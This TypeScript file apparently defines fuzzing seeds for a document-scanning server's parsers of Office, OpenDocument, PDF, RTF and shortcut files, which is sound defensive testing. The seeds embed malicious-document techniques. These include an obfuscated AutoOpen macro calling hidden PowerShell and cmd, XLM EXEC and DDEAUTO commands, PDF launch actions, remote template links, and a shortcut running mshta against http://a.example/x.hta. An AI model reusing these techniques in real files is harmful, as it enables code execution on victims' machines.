import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { findProgram } from '../../packages/server/test/e2e/needs.ts'
import { makeZip as zipOf } from '../../packages/server/test/unpack/archives/make-zip.ts'
import { makeLnk } from '../../packages/server/test/unpack/documents/make-lnk.ts'
import {
  makeBasic,
  makeContent,
  makeEncryptedOdf,
  makeListener,
  makeOdf,
} from '../../packages/server/test/unpack/documents/make-odf.ts'
import {
  makeAgile,
  makeStandard,
  rc4,
  rc4CryptoApi,
  sealWorkbook,
  xorFilePass,
  xorWorkbook,
} from '../../packages/server/test/unpack/documents/make-office-crypto.ts'
import { makeOle, type Storage } from '../../packages/server/test/unpack/documents/make-ole.ts'
import { makeOneNote } from '../../packages/server/test/unpack/documents/make-onenote.ts'
import {
  makeDocument,
  makeField,
  makeMacroSheet,
  makeRelations,
  makeTypes,
  makeZip,
  type ZipPart,
} from '../../packages/server/test/unpack/documents/make-ooxml.ts'
import { packageBytes } from '../../packages/server/test/unpack/documents/make-package.ts'
import { compressVba, makeVba } from '../../packages/server/test/unpack/documents/make-vba.ts'
import { hiddenExec, makeWorkbook, ptg } from '../../packages/server/test/unpack/documents/make-xls.ts'
import { flated, objectOf, objectStream, type PdfPart, PLAIN_PARTS, pdfOf } from '../../packages/server/test/unpack/documents/pdf-samples.ts' // biome-ignore format: one import a line
import { cached } from './cached.ts'
import { type Seed, seedsOf, type Target } from './target.ts'
import { createWalker, PASSWORD } from './walker.ts'

const MACRO =
  'Sub AutoOpen()\r\nDim s As String\r\ns = Chr(112) & "owers" & StrReverse("lleh")\r\nShell s & " -w hidden", 0\r\nCreateObject("WScript.Shell").Run Replace("cXmd", "X", "")\r\nEnd Sub\r\n'
const XLM = {
  name: 'Macro1',
  macro: true,
  state: 2 as const,
  formulas: [hiddenExec('calc'), Buffer.concat([ptg.string('cmd'), ptg.int(7), ptg.join, ptg.call(110, 1)])],
}
const SHEET = { name: 'Data', macro: false, state: 0 as const, formulas: [ptg.int(3)] }
const BOOK = { sheets: [SHEET, XLM], builtIn: [1], names: ['Total'], supBooks: ['cmd\u0003 /c calc'] } // biome-ignore format: one text a line

/** A document whose streams are changed before they are put together; macro text before it is compressed. */
const OLE_PARTS: readonly Seed[] = [
  {
    name: 'macro text',
    parts: [Buffer.from(MACRO), Buffer.alloc(64, 1)],
    build: ([source = none, cache = none]) => makeOle({ Macros: makeVba({ ThisDocument: source }, { cache }) }),
  },
  {
    name: 'macro streams',
    parts: (() => {
      const { VBA } = makeVba({ Module1: MACRO }) as { VBA: { dir: Buffer; Module1: Buffer } }
      return [VBA.dir, VBA.Module1]
    })(),
    build: ([dir = none, Module1 = none]) => makeOle({ _VBA_PROJECT_CUR: { VBA: { dir, Module1 }, PROJECT: Buffer.from('ID="{0}"') } }),
  },
  {
    name: 'packed chunk',
    parts: [compressVba(Buffer.from(MACRO.repeat(20)))],
    build: ([Module1 = none]) => makeOle({ Macros: { VBA: { Module1, _VBA_PROJECT: Buffer.from('cc61ffff', 'hex') } } }),
  },
  {
    name: 'workbook',
    parts: [makeWorkbook(BOOK)],
    build: ([Workbook = none]) => makeOle({ Workbook }),
  },
  {
    name: 'formula',
    parts: [hiddenExec('calc'), Buffer.from('Auto_Open')],
    build: ([formula = none, name = none]) => makeOle({ Workbook: makeWorkbook({ ...BOOK, sheets: [SHEET, { ...XLM, formulas: [formula] }], names: [name.toString('latin1').slice(0, 200)] }) }),
  },
  {
    name: 'package',
    parts: [packageBytes('a.js', Buffer.from('WScript.Echo(1)'))],
    build: ([native = none]) => makeOle({ ObjectPool: { _1: { '\x01Ole10Native': native, '\x01CompObj': native.subarray(0, 90) } } }),
  },
  {
    name: 'words',
    parts: [Buffer.concat([Buffer.from('eca5c100', 'hex'), Buffer.alloc(600), Buffer.from('\x13 DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc" \x14 x \x15')])],
    build: ([WordDocument = none]) => makeOle({ WordDocument, '1Table': Buffer.alloc(300) }),
  },
  {
    name: 'slides',
    parts: [Buffer.concat([Buffer.from('1000', 'hex'), Buffer.from('1110', 'hex'), u32(40), u32(100), deflateSync(makeOle({ a: Buffer.from('b') }))])],
    build: ([document = none]) => makeOle({ 'PowerPoint Document': document, 'Current User': Buffer.alloc(20) }),
  },
] // biome-ignore format: one stream a line

const none = Buffer.alloc(0)

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32LE(value)
  return bytes
}

const EQUATION = { classIds: { '': '{0002CE02-0000-0000-C000-000000000046}' } }

const oleSeeds = (): Seed[] => [
  ...OLE_PARTS,
  ...seedsOf({
    macros: () => makeOle({ Macros: makeVba({ ThisDocument: MACRO }), WordDocument: Buffer.alloc(600) }),
    'version 4': () => makeOle({ Macros: makeVba({ M: MACRO }) }, { version: 4 }),
    large: () => makeOle({ Big: Buffer.alloc(9000, 'x'), Storage: { Deep: { Deeper: { Stream: Buffer.from(MACRO) } } } }),
    equation: () => makeOle({ '\x01Ole': Buffer.alloc(20), 'Equation Native': Buffer.alloc(200, 'E') }, EQUATION),
    leftover: () => makeOle({ A: Buffer.from('a') }, { leftover: Buffer.from(MACRO), orphans: { Lost: Buffer.from(MACRO) } }),
    nested: () => makeOle({ ObjectPool: { _1: { Workbook: makeWorkbook(BOOK) } as Storage, _2: makeVba({ M: MACRO }) } }),
  }),
] // biome-ignore format: one file a line

const sealedSeeds = (): Seed[] => {
  const book = makeWorkbook({ ...BOOK, filePass: xorFilePass(PASSWORD) })
  const withPass = (kind: string, make: () => ReturnType<typeof rc4>) =>
    cached(`sealed ${kind}`, () => {
      const sealed = make()
      const filePass = Buffer.concat([Buffer.from('0100', 'hex'), sealed.header])
      return makeOle({ Workbook: sealWorkbook(makeWorkbook({ ...BOOK, filePass }), sealed) })
    })
  const inside = zipOf([{ name: '[Content_Types].xml', data: makeTypes('x') }])
  return seedsOf({
    agile: cached('sealed agile', () => makeAgile(inside, { password: PASSWORD })),
    'agile sha1': cached('sealed agile sha1', () => makeAgile(inside, { password: PASSWORD, hashName: 'SHA1', keyBits: 128, spinCount: 100 })),
    standard: cached('sealed standard', () => makeStandard(inside, PASSWORD)),
    rc4: withPass('rc4', () => rc4(PASSWORD)),
    'rc4 40': withPass('rc4 40', () => rc4CryptoApi(PASSWORD, 40)),
    'rc4 128': withPass('rc4 128', () => rc4CryptoApi(PASSWORD, 128)),
    xor: () => makeOle({ Workbook: xorWorkbook(book, PASSWORD) }),
    odf: cached('sealed odf', () => makeEncryptedOdf({ 'content.xml': makeContent('x') }, PASSWORD, 'aes256-cbc')),
    'odf blowfish': cached('sealed odf blowfish', () => makeEncryptedOdf({ 'content.xml': makeContent('x') }, PASSWORD, 'blowfish')),
    'odf gcm': cached('sealed odf gcm', () => makeEncryptedOdf({ 'content.xml': makeContent('x') }, PASSWORD, 'aes256-gcm')),
  })
} // biome-ignore format: one file a line

/** Parts that are changed before the archive is made. */
function zipSeed(name: string, parts: Readonly<Record<string, Buffer | string>>, make: (parts: readonly ZipPart[]) => Buffer): Seed {
  const names = Object.keys(parts)
  return {
    name,
    parts: Object.values(parts).map((part) => (typeof part === 'string' ? Buffer.from(part) : part)),
    build: (changed) => make(changed.map((bytes, at) => ({ name: names[at] ?? '', bytes }))),
  }
} // biome-ignore format: one signature

/** [MS-XLSB] BrtBeginSheet, a row, a string formula that calls EXEC. */
const BINARY_SHEET = Buffer.concat([Buffer.from('810100', 'hex'), Buffer.from('001400000000', 'hex'), Buffer.alloc(16), xlsb(8, Buffer.concat([Buffer.alloc(8), u32(1), Buffer.from('a\0'), Buffer.from('0000', 'hex'), u32(hiddenExec('calc').length), hiddenExec('calc'), u32(0)])), xlsb(9, Buffer.concat([Buffer.alloc(18), u32(3), ptg.int(3), u32(0)])), Buffer.from('820100', 'hex')]) // biome-ignore format: one sheet

function xlsb(kind: number, data: Buffer): Buffer {
  return Buffer.concat([Buffer.of(kind, (data.length & 0x7f) | 0x80, data.length >> 7), data])
}

const TYPES = makeTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml')
const FLAT = `<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>${makeOle(makeVba({ M: MACRO })).toString('base64')}</pkg:binaryData></pkg:part><pkg:part pkg:name="/word/document.xml"><pkg:xmlData>${makeDocument(makeField(['DDEAUTO cmd']))}</pkg:xmlData></pkg:part></pkg:package>`

const ooxmlSeeds = (): Seed[] => [
  zipSeed('fields', { '[Content_Types].xml': TYPES, 'word/document.xml': makeDocument(makeField(['DDE', 'AUTO c:\\\\windows\\\\', 'cmd.exe "/k calc"'])) }, makeZip),
  zipSeed('relations', { '[Content_Types].xml': TYPES, 'word/document.xml': makeDocument('<w:p/>'), 'word/_rels/document.xml.rels': makeRelations([{ type: 'attachedTemplate', target: 'https://a.example/t.dotm', external: true }, { type: 'oleObject', target: 'mhtml:http://a.example/x!http://a.example/x', external: true }]) }, makeZip),
  zipSeed('macros', { '[Content_Types].xml': TYPES, 'word/vbaProject.bin': makeOle(makeVba({ M: MACRO })), 'word/document.xml': makeDocument('<w:p/>') }, makeZip),
  zipSeed('macro sheet', { '[Content_Types].xml': TYPES, 'xl/workbook.xml': '<workbook><sheets><sheet name="M" state="veryHidden" sheetId="1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames></workbook>', 'xl/macrosheets/sheet1.xml': makeMacroSheet({ A1: 'EXEC("calc")', A2: 'CHAR(61)&CHAR(62)' }) }, makeZip),
  zipSeed('object', { '[Content_Types].xml': TYPES, 'word/embeddings/oleObject1.bin': makeOle({ '\x01Ole10Native': packageBytes('a.js', Buffer.from('x')) }), 'word/document.xml': makeDocument('<w:p/>') }, makeZip),
  zipSeed('slides', { '[Content_Types].xml': TYPES, 'ppt/slides/slide1.xml': '<p:sld><a:hlinkHover action="ppaction://program" r:id="a"/><a:hlinkClick action="ppaction://program"/></p:sld>', 'word/document.xml': makeDocument('<w:p/>'), 'customUI/customUI.xml': '<customUI onLoad="Init"/>', 'xl/connections.xml': '<connections><connection command="x"><webPr url="http://a.example/q"/></connection></connections>', 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>', 'word/activeX/activeX1.xml': '<ax:ocx ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"/>' }, makeZip),
  zipSeed('binary sheet', { '[Content_Types].xml': TYPES, 'xl/workbook.bin': Buffer.from('8301009c0120', 'hex'), 'xl/macrosheets/sheet1.bin': BINARY_SHEET }, makeZip),
  { name: 'active mime', parts: [makeOle({ Macros: makeVba({ M: MACRO }) })], build: ([bytes = none]) => Buffer.concat([Buffer.from('ActiveMime\0\0'), Buffer.alloc(38, 1), deflateSync(bytes)]) },
  { name: 'active mime in', parts: [Buffer.concat([Buffer.from('ActiveMime\0\0'), Buffer.alloc(38, 1), deflateSync(Buffer.from(MACRO))])], build: ([bytes = none]) => makeZip([{ name: '[Content_Types].xml', bytes: Buffer.from(TYPES) }, { name: 'word/editdata.mso', bytes }]) },
  { name: 'flat', parts: [Buffer.from(FLAT)] },
] // biome-ignore format: one document a line

const odfSeeds = (): Seed[] => [
  ...seedsOf({
    plain: () => makeOdf({ 'content.xml': makeContent('<text:p>hello</text:p>') }),
    dde: () => makeOdf({ 'content.xml': makeContent('<table:cell-range-source xlink:href="http://a.example/x"/><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/><text:a xlink:href="http://a.example/">x</text:a>') }),
    macro: () => makeOdf({ 'content.xml': makeContent(makeListener('dom:load', 'vnd.sun.star.script:Standard.M.Main?language=Basic&location=document')), 'Basic/Standard/M.xml': makeBasic('M', MACRO), 'Scripts/python/a.py': 'import os\nos.system("x")' }),
    'flat odf': () => `<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:mimetype="application/vnd.oasis.opendocument.text">${makeListener('dom:load', 'macro:///x')}<office:binary-data>TVqQAAMAAAA=</office:binary-data></office:document>`,
  }),
  zipSeed('content', { mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': makeContent(makeListener('dom:load', 'vnd.sun.star.script:a?location=document')), 'META-INF/manifest.xml': '<manifest:manifest xmlns:manifest="m"><manifest:file-entry manifest:full-path="/"/></manifest:manifest>', 'Basic/Standard/M.xml': makeBasic('M', MACRO) }, makeZip),
] // biome-ignore format: one document a line

const LAUNCH: readonly PdfPart[] = [
  { num: 9, body: '<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' },
  { num: 10, body: '<< /S /JavaScript /JS (app.launchURL\\("http://a.example/"\\);this.exportDataObject\\({cName:"a",nLaunch:2}\\)) >>' },
  { num: 11, body: '<< /Type /Filespec /F (a.exe) /UF <FEFF0061002E006500780065> /EF << /F 12 0 R >> >>' },
  flated(12, 'MZ\x90\0 harmless', '/Type /EmbeddedFile'),
  { num: 22, body: '<< /AcroForm << /XFA [(a) 23 0 R (b) 24 0 R] >> >>' },
  flated(23, '<xdp:xdp><script>x</script>'),
  { num: 24, body: '/Filter [/FlateDecode] /DecodeParms [<< /Predictor 2 /Columns 3 /Colors 3 >>]', stream: deflateSync(Buffer.from('abcdefghi')) },
  objectStream(13, [[14, '<< /S /URI /URI (http://a.example/x.exe) >>'], [15, '<< /OpenAction 10 0 R /AA << /O 9 0 R >> >>']]),
  { num: 16, body: '/Filter [/ASCIIHexDecode /LZWDecode]', stream: Buffer.from('800B6050220C0C8501>') },
  { num: 17, body: '/Filter [/ASCII85Decode /RunLengthDecode]', stream: Buffer.from('!!*-\'"9eu~>') },
  { num: 18, body: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>', stream: deflateSync(Buffer.from('\x02abcd\x01efgh\x04ijkl', 'latin1')) },
] // biome-ignore format: one object a line

function streamPdf(dict: string, stream: Buffer): Buffer {
  return pdfOf([...PLAIN_PARTS, { num: 20, body: dict, stream }])
}

const pdfSeeds = (): Seed[] => [
  ...seedsOf({
    plain: () => pdfOf(PLAIN_PARTS),
    actions: () => pdfOf([...PLAIN_PARTS, ...LAUNCH]),
    encrypted: () => pdfOf(PLAIN_PARTS, '/Encrypt << /Filter /Standard /V 4 /R 4 /Length 128 /P -4 /O <00> /U <00> /CF << /StdCF << /CFM /AESV2 >> >> /StmF /StdCF >> /ID [<00><00>]'),
    revision: () => Buffer.concat([pdfOf(PLAIN_PARTS), objectOf({ num: 1, body: '<< /Type /Catalog /OpenAction 9 0 R >>' }), Buffer.from('trailer << /Prev 9 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n')]),
    ...Object.fromEntries(['40', '128', '256'].map((bits) => [`qpdf ${bits}`, cached(`pdf ${bits}`, () => qpdf(bits))])),
  }),
  ...Object.entries({ flate: '/Filter /FlateDecode', predictor: '/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 5 /Colors 1 /BitsPerComponent 8 >>' }).map(
    ([name, dict]): Seed => ({ name, parts: [Buffer.from('\x00/S /JavaScript /JS (eval\\(x\\)) \x02abcde\x03fghij'), Buffer.from(dict)], build: ([bytes = none, words = none]) => streamPdf(words.toString('latin1'), deflateSync(bytes)) }),
  ),
  { name: 'object stream', parts: [Buffer.from('14 0 15 40 << /S /URI /URI (http://a.example/x.exe) >> << /OpenAction 10 0 R >>'), Buffer.from('/Type /ObjStm /N 2 /First 11 /Filter /FlateDecode')], build: ([bytes = none, dict = none]) => streamPdf(dict.toString('latin1'), deflateSync(bytes)) },
  { name: 'cross references', parts: [Buffer.from('0100000000020014000001002c0000', 'hex'), Buffer.from('/Type /XRef /W [1 2 2] /Size 3 /Root 1 0 R /Filter /FlateDecode')], build: ([bytes = none, dict = none]) => streamPdf(dict.toString('latin1'), deflateSync(bytes)) },
  { name: 'lzw', parts: [Buffer.from('800b6050220c0c8501', 'hex')], build: ([bytes = none]) => streamPdf('/Filter /LZWDecode', bytes) },
] // biome-ignore format: one file a line

function qpdf(bits: string): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'assay-fuzz-'))
  try {
    writeFileSync(join(folder, 'plain.pdf'), pdfOf([...PLAIN_PARTS, ...LAUNCH]))
    const how = bits === '40' ? ['--allow-weak-crypto'] : bits === '128' ? ['--allow-weak-crypto'] : []
    const args = [...how, '--encrypt', PASSWORD, 'owner', bits, '--', '--object-streams=generate', '--warning-exit-0']
    execFileSync(findProgram('qpdf') ?? 'qpdf', [...args, 'plain.pdf', 'out.pdf'], { cwd: folder, stdio: 'pipe' })
    return readFileSync(join(folder, 'out.pdf'))
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

const OBJECT = Buffer.concat([
  Buffer.from('0105000002000000', 'hex'),
  u32(8),
  Buffer.from('Package\0'),
  u32(0),
  u32(0),
  u32(60),
  packageBytes('a.js', Buffer.from('x'.repeat(20))).subarray(4),
])
const rtf = (data: string) =>
  `{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}Hello {\\object\\objemb\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata ${data}}{\\result x}}{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}}{\\*\\template http://a.example/t.dot}\\par}`

const rtfSeeds = (): Seed[] => [
  ...seedsOf({ object: () => rtf(OBJECT.toString('hex')), bin: () => rtf(`01\\bin8 12345678 ${OBJECT.toString('hex')}\\'41`), spaces: () => rtf([...OBJECT.toString('hex')].join('\r\n')) }),
  { name: 'object data', parts: [OBJECT], build: ([bytes = none]) => Buffer.from(rtf(bytes.toString('hex')), 'latin1') },
  { name: 'compound data', parts: [makeOle({ 'Equation Native': Buffer.alloc(70, 1) }, EQUATION)], build: ([bytes = none]) => Buffer.from(rtf(Buffer.concat([OBJECT.subarray(0, 28), u32(bytes.length), bytes]).toString('hex')), 'latin1') },
] // biome-ignore format: one file a line

const lnkSeeds = (): Seed[] =>
  seedsOf({
    plain: () => makeLnk({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/c start mshta http://a.example/x.hta', icon: 'shell32.dll' }),
    full: () => makeLnk({ target: 'C:\\a.exe', linkInfo: 'C:\\a.exe', relativePath: '..\\a.exe', arguments: '-enc QQBBAEEA', environment: '%COMSPEC%', machine: 'host', appended: Buffer.from('MZ appended bytes '.repeat(20)) }),
    onenote: () => makeOneNote([{ name: 'a.hta', bytes: Buffer.from('<script>x</script>') }, { name: 'b.png', bytes: Buffer.from('\x89PNG', 'latin1') }]),
  }) // biome-ignore format: one file a line

const OLE_TOKENS = ['\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', '\xfe\xff\xff\xff', '\xff\xff\xff\xff', '\xfd\xff\xff\xff', '\xfa\xff\xff\xff', 'R\0o\0o\0t\0', 'Shell', 'CreateObject(', 'Chr(65)&', 'StrReverse(', 'LCase(', 'Mid("abc",2,', 'Left(', 'Right(', 'Space(3)', 'Trim(', 'CStr(5)', 'Chr(60+5)', '" & "', '_\r\n', '\x01\0\xb0', '\x05\0\x10\0', '\x16\x03\0abc', '\x42\x01\x6e\0'] // biome-ignore format: one list
const XML_TOKENS = ['<w:instrText>', '</w:instrText>', '<!--', '-->', '<![CDATA[', ']]>', '<!DOCTYPE x [<!ENTITY a "&b;&b;">]>', '&a;', '&#x41;', '&#1114112;', '<a ', '/>', 'xmlns:x="', '<?xml encoding="UTF-16"?>', 'TargetMode="External"', '\xef\xbb\xbf', '\xff\xfe'] // biome-ignore format: one list
const PDF_TOKENS = ['<<', '>>', '[', ']', '(', ')', '<', '>', '/Filter ', '/FlateDecode ', '/Length 99999999', '1 0 R ', 'stream\n', 'endstream', 'endobj', '20 0 obj', 'xref\n0 9\n', 'trailer', '/Prev 9', '/Parent 3 0 R', '/Kids [3 0 R 3 0 R]', '#41', '\\101', '%', '/Predictor 15', '/Columns 99999999', '/JS ', '/N 100000 /First 0', '/W [8 8 8]', '/Index [0 1000000]', '/Type /ObjStm'] // biome-ignore format: one list
const RTF_TOKENS = ['{', '}', '{\\*\\objdata ', '\\bin5 ', '\\bin999999999 ', "\\'41", '\\u-1 ', '\\objupdate', '\\*', '\\field', '\\fldinst', '0105000002000000', '\\\r\n', '\\par', '\\objdata'] // biome-ignore format: one list
const LNK_TOKENS = ['\x01\0\0\xa0', '\x14\x03\0\0', 'c\0m\0d\0', '\x4c\0\0\0', '\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac'] // biome-ignore format: one list

interface DocumentTarget {
  readonly seeds: () => Seed[]
  readonly tokens: readonly string[]
  readonly share?: number
  readonly keptBytes?: number
}

function documents(name: string, about: string, { seeds, tokens, share = 8, keptBytes = 8 }: DocumentTarget): Target {
  return { name, about, share, prepare: () => ({ seeds: seeds(), tokens, keptBytes, run: createWalker() }) }
}

export const DOCUMENT_TARGETS: readonly Target[] = [
  documents('ole', 'compound files, VBA (streams, compression, folding), XLM, embedded objects', { seeds: oleSeeds, tokens: OLE_TOKENS, share: 120 }),
  documents('sealed', 'encrypted Office and OpenDocument files, all ciphers', { seeds: sealedSeeds, tokens: [...OLE_TOKENS, 'spinCount="9999999"', 'keyBits="0"', 'manifest:iteration-count="2000000000"'], share: 10 }),
  documents('ooxml', 'OOXML: fields, relations, sheets, flat packages', { seeds: ooxmlSeeds, tokens: XML_TOKENS, share: 70 }),
  documents('odf', 'OpenDocument: content, manifest, macros', { seeds: odfSeeds, tokens: XML_TOKENS, share: 60 }),
  documents('pdf', 'PDF: objects, tables, streams and filters, encryption, scripts', { seeds: pdfSeeds, tokens: PDF_TOKENS, share: 90 }),
  documents('rtf', 'RTF and its objects', { seeds: rtfSeeds, tokens: RTF_TOKENS, keptBytes: 6, share: 120 }),
  documents('lnk', 'shortcuts and OneNote sections', { seeds: lnkSeeds, tokens: LNK_TOKENS, keptBytes: 20, share: 250 }),
] // biome-ignore format: one target a line
